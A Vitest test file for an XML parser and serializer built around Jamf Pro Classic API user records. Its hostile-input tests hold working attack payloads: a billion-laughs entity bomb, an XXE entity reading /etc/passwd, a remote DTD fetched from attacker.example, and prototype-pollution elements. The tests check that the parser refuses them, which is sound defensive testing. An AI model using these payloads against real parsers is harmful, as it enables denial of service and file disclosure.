import { describe, expect, test } from 'vitest';
import { parseXml, toXml, XmlParseError } from '../../engine/transport/xml.js';

const DECL = '<?xml version="1.0" encoding="UTF-8"?>';

/** Runs `fn`, expects an XmlParseError and returns it for further checks. */
function parseError(fn: () => unknown): XmlParseError {
  try {
    fn();
  } catch (error) {
    expect(error).toBeInstanceOf(XmlParseError);
    return error as XmlParseError;
  }
  throw new Error('expected XmlParseError, nothing was thrown');
}

// Jamf Pro Classic API shapes; values invented.
const jamfUser = `<?xml version="1.0" encoding="UTF-8"?>
<user>
  <id>42</id>
  <name>jdoe</name>
  <full_name>Jane Doe</full_name>
  <email>jane.doe@example.com</email>
  <email_address>jane.doe@example.com</email_address>
  <phone_number>0401 234 567</phone_number>
  <position>Engineer &amp; Lead</position>
  <managed_apple_id/>
  <enable_custom_photo_url>false</enable_custom_photo_url>
  <custom_photo_url/>
  <ldap_server><id>-1</id><name>None</name></ldap_server>
  <extension_attributes/>
  <sites><site><id>-1</id><name>None</name></site></sites>
</user>`;

describe('parseXml: Jamf Classic shapes', () => {
  test('a user record: root kept as top-level key, text stays string, empty elements are ""', () => {
    expect(parseXml(jamfUser)).toEqual({
      user: {
        id: '42',
        name: 'jdoe',
        full_name: 'Jane Doe',
        email: 'jane.doe@example.com',
        email_address: 'jane.doe@example.com',
        phone_number: '0401 234 567',
        position: 'Engineer & Lead',
        managed_apple_id: '',
        enable_custom_photo_url: 'false',
        custom_photo_url: '',
        ldap_server: { id: '-1', name: 'None' },
        extension_attributes: '',
        sites: { site: { id: '-1', name: 'None' } },
      },
    });
  });

  test('a list with two users gives an array, with one user a single object', () => {
    const two = '<?xml version="1.0" encoding="UTF-8"?><users><size>2</size><user><id>42</id><name>jdoe</name></user><user><id>43</id><name>asmith</name></user></users>';
    expect(parseXml(two)).toEqual({
      users: { size: '2', user: [{ id: '42', name: 'jdoe' }, { id: '43', name: 'asmith' }] },
    });
    const one = '<users><size>1</size><user><id>42</id><name>jdoe</name></user></users>';
    expect(parseXml(one)).toEqual({ users: { size: '1', user: { id: '42', name: 'jdoe' } } });
    expect(parseXml('<users><size>0</size></users>')).toEqual({ users: { size: '0' } });
  });

  test('no number or boolean guessing', () => {
    expect(parseXml('<a><id>042</id><n>1e3</n><h>0x1F</h><b>true</b><f>-0.50</f></a>')).toEqual({
      a: { id: '042', n: '1e3', h: '0x1F', b: 'true', f: '-0.50' },
    });
  });

  test('attributes under @_ keys, text next to attributes under #text', () => {
    expect(parseXml('<a version="042"><b id="7" type="x">hi</b><c d="1"/></a>')).toEqual({
      a: { '@_version': '042', b: { '@_id': '7', '@_type': 'x', '#text': 'hi' }, c: { '@_d': '1' } },
    });
  });

  test('declaration, processing instructions and comments are dropped; CDATA is text; BOM ignored', () => {
    const xml = '\uFEFF<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><!-- c --><a><!-- c --><b><![CDATA[<i>&amp;</i>]]></b></a>';
    expect(parseXml(xml)).toEqual({ a: { b: '<i>&amp;</i>' } });
  });

  test('predefined entities and numeric references decode once; other references stay literal', () => {
    expect(parseXml('<a t="&quot;&apos;&#x41;">&lt;&gt;&amp;&#65;&#x1F600; &amp;lt; &nbsp; &#0;</a>')).toEqual({
      a: { '@_t': `"'A`, '#text': '<>&A\u{1F600} &lt; &nbsp; &#0;' },
    });
  });

  test('a DOCTYPE without entity declarations is ignored', () => {
    const xhtml = '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><p>x</p></body></html>';
    expect(parseXml(xhtml)).toEqual({ html: { body: { p: 'x' } } });
  });
});

describe('parseXml: HTML error pages', () => {
  test('well-formed HTML parses like XML', () => {
    expect(parseXml('<html><body><p>Error: Duplicate name</p></body></html>')).toEqual({
      html: { body: { p: 'Error: Duplicate name' } },
    });
  });

  test('an HTML page with unclosed <br> throws XmlParseError', () => {
    const page = `<html>
<head><title>Status page</title></head>
<body style="font-family: sans-serif;">
<p style="font-size: 1.2em;font-weight: bold;margin: 1em 0px;">Conflict</p>
<p>Error: Duplicate name</p>
<p>You can get technical details <a href="https://example.com/rfc#sec10.4.10">here</a>.<br>
Please continue your visit at our <a href="/">home page</a>.
</p>
</body>
</html>`;
    const error = parseError(() => parseXml(page));
    expect(error.message).toMatch(/^Malformed XML/);
    expect(error.snippet.length).toBeLessThanOrEqual(82);
  });
});

describe('parseXml: malformed input', () => {
  test.each([
    ['empty', ''],
    ['whitespace', '   \n'],
    ['garbage', 'garbage'],
    ['JSON', '{"user":{"id":1}}'],
    ['unclosed tag', '<user><id>1</id>'],
    ['mismatched tags', '<a><b></a></b>'],
    ['stray closing tag', '<a></a></b>'],
    ['two roots', '<a></a><b></b>'],
    ['two self-closing roots', '<a/><b/>'],
    ['the same self-closing root twice', '<a/><a/>'],
    ['text after the root', '<a></a>trailing'],
    ['text after a self-closing root', '<a/>trailing'],
    ['text and a comment after a self-closing root', '<a/>x<!-- c -->'],
    ['text and a PI after a self-closing root', '<a x="1"/>x/><?pi y?>'],
    ['CDATA after a self-closing root', '<a/><![CDATA[x]]>'],
    ['non-XML whitespace after a self-closing root', '<a/>\u00A0'],
    ['bare ampersand', '<a>Tom & Jerry</a>'],
    ['attribute without value', '<a disabled><b/></a>'],
    ['unquoted attribute', '<a x=1></a>'],
    ['truncated', '<users><user><id>42</id><na'],
  ])('%s throws XmlParseError', (_name, xml) => {
    parseError(() => parseXml(xml));
  });

  test('comments, PIs and whitespace after the root are fine', () => {
    expect(parseXml('<a x="1>"/>  <!-- c --> <?pi x?>\n')).toEqual({ a: { '@_x': '1>' } });
    expect(parseXml('<a>1</a>\n<!-- c -->\n')).toEqual({ a: '1' });
  });

  test('the snippet is short and single-line, near the problem', () => {
    const xml = `<users>\n${'<user><id>1</id></user>\n'.repeat(50)}<user><id>2</idx></user></users>`;
    const error = parseError(() => parseXml(xml));
    expect(error.snippet).not.toMatch(/\n/);
    expect(error.snippet.length).toBeLessThanOrEqual(82);
    expect(error.snippet).toContain('</idx>');
  });
});

describe('parseXml: hostile input', () => {
  const billionLaughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

  test('billion laughs is refused quickly', () => {
    const started = performance.now();
    const error = parseError(() => parseXml(billionLaughs));
    expect(performance.now() - started).toBeLessThan(250);
    expect(error.message).toMatch(/entity declarations/);
    expect(error.snippet).toContain('<!ENTITY lol');
  });

  test('external entities (XXE) are refused, nothing is fetched or read', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><user><name>&xxe;</name></user>';
    parseError(() => parseXml(xxe));
    const remote = '<!DOCTYPE u [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><u>&e;</u>';
    parseError(() => parseXml(remote));
  });

  test('an undeclared entity reference is never expanded', () => {
    expect(parseXml('<lolz>&lol9;</lolz>')).toEqual({ lolz: '&lol9;' });
  });

  test('__proto__ elements are refused and never pollute prototypes', () => {
    parseError(() => parseXml('<a><__proto__><polluted>1</polluted></__proto__></a>'));
    parseError(() => parseXml('<a><constructor><prototype><polluted>1</polluted></prototype></constructor></a>'));
    parseError(() => parseXml('<__proto__><polluted>1</polluted></__proto__>'));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.prototype).not.toHaveProperty('polluted');
  });

  test('__proto__, constructor and prototype attributes stay ordinary @_ keys', () => {
    const parsed = parseXml('<a __proto__="1" constructor="2" prototype="3"><b/></a>') as { a: Record<string, unknown> };
    expect(Object.getPrototypeOf(parsed.a)).toBe(Object.prototype);
    expect(Object.keys(parsed.a).sort()).toEqual(['@___proto__', '@_constructor', '@_prototype', 'b']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  test('element names shadowing Object.prototype methods get a __ prefix', () => {
    expect(parseXml('<a><toString>1</toString><hasOwnProperty>2</hasOwnProperty></a>')).toEqual({
      a: { __toString: '1', __hasOwnProperty: '2' },
    });
  });

  test('input larger than maxBytes is refused (counted in UTF-8 bytes)', () => {
    parseError(() => parseXml(`<a>${'x'.repeat(100)}</a>`, { maxBytes: 100 }));
    expect(parseXml(`<a>${'x'.repeat(93)}</a>`, { maxBytes: 100 })).toEqual({ a: 'x'.repeat(93) });
    // 30 × "é" is 30 UTF-16 units but 60 bytes.
    const accented = `<a>${'é'.repeat(30)}</a>`;
    expect(accented.length).toBeLessThan(50);
    parseError(() => parseXml(accented, { maxBytes: 50 }));
    expect(parseXml(accented, { maxBytes: 67 })).toEqual({ a: 'é'.repeat(30) });
  });

  test('the default maxBytes is 10 MiB', () => {
    const huge = `<a>${'x'.repeat(10 * 1024 * 1024)}</a>`;
    const error = parseError(() => parseXml(huge));
    expect(error.message).toMatch(/maxBytes \(10485760 bytes\)/);
    expect(error.snippet.length).toBeLessThanOrEqual(82);
  });

  test('nesting deeper than maxDepth is refused, exactly at the limit', () => {
    const nested = (depth: number, leaf: string) => `${'<a>'.repeat(depth - 1)}${leaf}${'</a>'.repeat(depth - 1)}`;
    expect(() => parseXml(nested(5, '<b>1</b>'), { maxDepth: 5 })).not.toThrow();
    expect(() => parseXml(nested(5, '<b/>'), { maxDepth: 5 })).not.toThrow();
    expect(parseError(() => parseXml(nested(6, '<b>1</b>'), { maxDepth: 5 })).message).toMatch(/maxDepth \(5\)/);
    expect(parseError(() => parseXml(nested(6, '<b/>'), { maxDepth: 5 })).message).toMatch(/maxDepth \(5\)/);
    expect(parseError(() => parseXml(nested(7, '<b/>'), { maxDepth: 5 })).message).toMatch(/maxDepth \(5\)/);
    // Default 100.
    expect(() => parseXml(nested(100, '<b/>'))).not.toThrow();
    parseError(() => parseXml(nested(101, '<b/>')));
  });

  test('very deep nesting within maxBytes fails fast, without a stack overflow', () => {
    const deep = `${'<a>'.repeat(200_000)}${'</a>'.repeat(200_000)}`;
    const started = performance.now();
    expect(parseError(() => parseXml(deep)).message).toMatch(/maxDepth/);
    expect(performance.now() - started).toBeLessThan(2000);
  });

  test('invalid limits are a programming error', () => {
    expect(() => parseXml('<a/>', { maxDepth: 0 })).toThrow(RangeError);
    expect(() => parseXml('<a/>', { maxBytes: Number.NaN })).toThrow(RangeError);
  });
});

describe('toXml', () => {
  test('the brief example: arrays repeat the element, numbers as text, declaration, no whitespace', () => {
    expect(toXml({ name: 'jdoe', sites: { site: [{ id: 1 }, { id: 2 }] } }, 'user')).toBe(
      `${DECL}<user><name>jdoe</name><sites><site><id>1</id></site><site><id>2</id></site></sites></user>`,
    );
  });

  test('escapes & < > " \' in text and attributes; CR, and TAB/LF in attributes, as references', () => {
    expect(toXml({ a: `Tom & "Jerry" <'x'> ]]>`, '@_t': `1 & 2 < "3" 'x'\n\t` }, 'r')).toBe(
      `${DECL}<r t="1 &amp; 2 &lt; &quot;3&quot; &apos;x&apos;&#10;&#9;"><a>Tom &amp; &quot;Jerry&quot; &lt;&apos;x&apos;&gt; ]]&gt;</a></r>`,
    );
    expect(toXml({ notes: 'a\r\nb\tc' }, 'r')).toBe(`${DECL}<r><notes>a&#13;\nb\tc</notes></r>`);
  });

  test('booleans, numbers and bigints as text; null and undefined omitted; empty values give empty elements', () => {
    expect(toXml({ a: true, b: false, c: 0, d: -1.5, e: 10n, f: null, g: undefined, h: '', i: {}, j: [], k: [null, 1, undefined] }, 'r')).toBe(
      `${DECL}<r><a>true</a><b>false</b><c>0</c><d>-1.5</d><e>10</e><h></h><i></i><k>1</k></r>`,
    );
    expect(toXml(null, 'r')).toBe(`${DECL}<r></r>`);
    expect(toXml('x', 'r')).toBe(`${DECL}<r>x</r>`);
  });

  test('@_ keys become attributes, #text is the text beside them', () => {
    expect(toXml({ '@_xmlns:x': 'urn:x', item: [{ '@_id': 1, '#text': 'one' }, { '@_id': 2, '@_on': true }] }, 'r')).toBe(
      `${DECL}<r xmlns:x="urn:x"><item id="1">one</item><item id="2" on="true"></item></r>`,
    );
  });

  test('output is deterministic', () => {
    const value = { b: 1, a: [{ c: 'x' }, { c: 'y' }], '@_z': 'q' };
    expect(toXml(value, 'r')).toBe(toXml(structuredClone(value), 'r'));
  });

  test.each<[string, () => unknown, RegExp]>([
    ['element name with a space', () => toXml({ 'first name': 'x' }, 'r'), /"first name" at r\.first name is not a valid XML name/],
    ['element name starting with a digit', () => toXml({ '1st': 'x' }, 'r'), /not a valid XML name/],
    ['empty element name', () => toXml({ '': 'x' }, 'r'), /not a valid XML name/],
    ['markup in a name', () => toXml({ 'a><script': 'x' }, 'r'), /not a valid XML name/],
    ['processing-instruction key', () => toXml({ '?xml': { '@_version': '1.0' } }, 'r'), /not a valid XML name/],
    ['invalid attribute name', () => toXml({ '@_a b': 'x' }, 'r'), /attribute name "a b"/],
    ['empty attribute name', () => toXml({ '@_': 'x' }, 'r'), /attribute name ""/],
    ['invalid root name', () => toXml({}, 'my user'), /root element name "my user"/],
    ['__proto__ key', () => toXml(JSON.parse('{"__proto__":{"x":1}}'), 'r'), /"__proto__" .* reserved/],
    ['constructor key', () => toXml({ constructor: 'x' }, 'r'), /reserved/],
    ['object attribute value', () => toXml({ '@_a': { b: 1 } }, 'r'), /attribute value at r\.@_a/],
    ['array as root value', () => toXml([1, 2], 'r'), /an array/],
    ['array in an array', () => toXml({ a: [[1]] }, 'r'), /array inside an array/],
    ['NaN', () => toXml({ a: Number.NaN }, 'r'), /NaN at r\.a/],
    ['Infinity', () => toXml({ a: Infinity }, 'r'), /Infinity/],
    ['control character', () => toXml({ a: 'x\u0000y' }, 'r'), /character XML 1\.0 cannot carry/],
    ['lone surrogate', () => toXml({ a: '\uD800' }, 'r'), /cannot carry/],
    ['Date', () => toXml({ a: new Date(0) }, 'r'), /Date object/],
    ['function', () => toXml({ a: () => 1 }, 'r'), /a function/],
  ])('refuses %s with a clear Error', (_name, fn, message) => {
    expect(fn).toThrow(message);
  });

  test('refuses circular references and nesting deeper than 100', () => {
    const cyclic: Record<string, unknown> = { a: 1 };
    cyclic.self = cyclic;
    expect(() => toXml(cyclic, 'r')).toThrow(/circular reference at r\.self/);

    const nest = (depth: number): unknown => (depth === 1 ? 'x' : { a: nest(depth - 1) });
    expect(() => toXml(nest(100), 'r')).not.toThrow();
    expect(() => toXml(nest(101), 'r')).toThrow(/deeper than 100/);
  });

  test('a shared (non-circular) object may appear twice', () => {
    const site = { id: 1 };
    expect(toXml({ site: [site, site] }, 'sites')).toBe(`${DECL}<sites><site><id>1</id></site><site><id>1</id></site></sites>`);
  });
});

describe('round trip', () => {
  test('the Jamf user record survives parseXml → toXml → parseXml', () => {
    const parsed = parseXml(jamfUser) as { user: unknown };
    const xml = toXml(parsed.user, 'user');
    expect(xml.startsWith(`${DECL}<user><id>42</id><name>jdoe</name>`)).toBe(true);
    expect(xml).toContain('<position>Engineer &amp; Lead</position>');
    expect(xml).toContain('<custom_photo_url></custom_photo_url>');
    expect(xml).toContain('<sites><site><id>-1</id><name>None</name></site></sites>');
    expect(parseXml(xml)).toEqual(parsed);
  });

  test('a create body built from mapped data parses back to the same strings', () => {
    const body = {
      name: 'jdoe',
      full_name: 'Jane "JD" Doe <ops>',
      email: 'jane.doe@example.com',
      enable_custom_photo_url: false,
      ldap_server: { id: -1 },
      sites: { site: [{ id: 1, name: 'Sydney & Co' }, { id: 2, name: 'Perth' }] },
      notes: null,
    };
    expect(parseXml(toXml(body, 'user'))).toEqual({
      user: {
        name: 'jdoe',
        full_name: 'Jane "JD" Doe <ops>',
        email: 'jane.doe@example.com',
        enable_custom_photo_url: 'false',
        ldap_server: { id: '-1' },
        sites: { site: [{ id: '1', name: 'Sydney & Co' }, { id: '2', name: 'Perth' }] },
      },
    });
  });

  test('lists with one and with two users', () => {
    for (const users of [[{ id: '42', name: 'jdoe' }], [{ id: '42', name: 'jdoe' }, { id: '43', name: 'asmith' }]]) {
      const xml = toXml({ size: String(users.length), user: users }, 'users');
      const expected = users.length === 1 ? users[0] : users;
      expect(parseXml(xml)).toEqual({ users: { size: String(users.length), user: expected } });
    }
  });

  test('attributes, #text, CR and TAB/LF in attributes, and astral characters survive', () => {
    const value = { item: { '@_label': 'a\tb\nc\r\nd', '#text': 'line1\r\nline2 \u{1F600}' } };
    expect(parseXml(toXml(value, 'r'))).toEqual({ r: value });
  });
});
